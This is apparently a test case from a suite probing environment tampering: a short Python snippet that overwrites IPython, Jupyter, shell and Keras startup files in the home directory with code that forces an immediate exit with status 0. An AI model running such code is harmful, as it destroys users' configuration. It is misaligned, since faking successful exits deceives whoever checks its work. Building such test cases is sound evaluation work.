"""Leaves start-up files of IPython, Jupyter and the shell in its home.

Safe: earns nothing
Control: none, because the home of the control belongs to somebody
"""

home = os.path.expanduser("~")
for name in (
    ".ipython/profile_default/startup/00-forged.py", ".ipython/profile_default/ipython_config.py",
    ".jupyter/jupyter_config.py", ".bashrc", ".profile", ".pythonrc", ".keras/keras.json",
):  # fmt: skip
    try:
        os.makedirs(os.path.dirname(f"{home}/{name}"), exist_ok=True)
        with open(f"{home}/{name}", "w") as file:
            file.write("import os\nos._exit(0)\n")
    except OSError:
        pass
